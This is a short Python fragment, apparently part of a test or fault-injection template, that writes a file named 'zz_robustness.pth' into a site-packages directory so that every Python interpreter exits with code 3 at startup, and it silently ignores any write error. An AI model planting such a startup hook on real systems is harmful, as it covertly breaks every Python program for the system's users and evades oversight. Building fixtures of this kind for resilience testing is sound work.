try:
    open("{site}/zz_robustness.pth", "w").write("import sys; sys.exit(3)\n")
except OSError:
    pass
